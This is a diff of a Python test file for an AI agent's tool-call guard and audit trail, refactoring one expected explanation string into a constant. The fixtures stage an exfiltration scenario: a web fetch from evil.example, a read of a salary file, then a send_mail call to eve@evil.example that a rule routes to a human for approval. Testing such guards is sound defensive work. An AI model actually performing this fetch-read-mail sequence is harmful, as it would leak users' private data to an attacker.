@@ -32,6 +32,10 @@ READ = Facts(
 SEND = Facts(
     Action.CALL_TOOL, "mail", "send_mail", labels_in("C"), targets=(Target("recipient", "eve@evil.example", "eve"),)
 )
+SEEN = (
+    "  The session held [A] since d1 web__fetch (evil.example) 2026-11-22 10:00:00Z; "
+    "[B] since d3 files__read_text_file (/home/alice/salary.txt) 2026-11-22 10:00:02Z."
+)
 ALLOW = Verdict(Outcome.ALLOW, None, ("default.permit",))
 ASK = Verdict(Outcome.ASK, None, ("r2.ask-third-label",), ("This gives the session all three.",))
 
@@ -74,8 +78,7 @@ async def test_an_approved_call_is_explained_from_its_origins_to_its_end(store: 
     number = await _story(journal)
     assert explain(store, f"d{number}").lines() == [
         "d4 asked: mail__send_mail to eve@evil.example [C], 2026-11-22 10:00:03Z, session s-1",
-        "  The session held [A] since d1 web__fetch (evil.example) 2026-11-22 10:00:00Z; "
-        "[B] since d3 files__read_text_file (/home/alice/salary.txt) 2026-11-22 10:00:02Z.",
+        SEEN,
         "  Because [r2.ask-third-label]: This gives the session all three.",
         "  Then a person was shown exactly this call (digest abababababab…), 2026-11-22 10:00:04Z.",
         "  Then alice answered yes (advisory: unsigned), 2026-11-22 10:00:05Z.",
